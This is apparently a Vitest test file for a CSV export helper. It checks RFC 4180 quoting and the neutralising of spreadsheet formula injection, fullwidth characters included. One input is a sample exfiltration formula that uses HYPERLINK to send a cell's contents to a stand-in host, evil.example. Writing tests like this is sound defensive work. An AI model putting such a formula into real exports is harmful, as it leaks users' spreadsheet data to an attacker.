import { describe, expect, it } from 'vitest';
import { csvTable } from '../../src/lib/exports/csv.ts';

describe('CSV', () => {
	it('quotes fields as RFC 4180 says and ends lines with CRLF', () => {
		expect(
			csvTable([
				['id', 'title'],
				['x', '김여정, "no"'],
				['y', 'two\nlines'],
			]),
		).toBe('id,title\r\nx,"김여정, ""no"""\r\ny,"two\nlines"\r\n');
	});

	it('never writes a live spreadsheet formula, fullwidth signs included', () => {
		const row = csvTable([
			[
				'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
				'+1',
				'-2',
				'@SUM(A1)',
				'\tx',
				'\rx',
				'＝1',
				'＋1',
				'－1',
				'＠A1',
			],
		]);
		expect(row).toBe(
			`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'+1,'-2,'@SUM(A1),'\tx,"'\rx",'＝1,'＋1,'－1,'＠A1\r\n`,
		);
	});
});
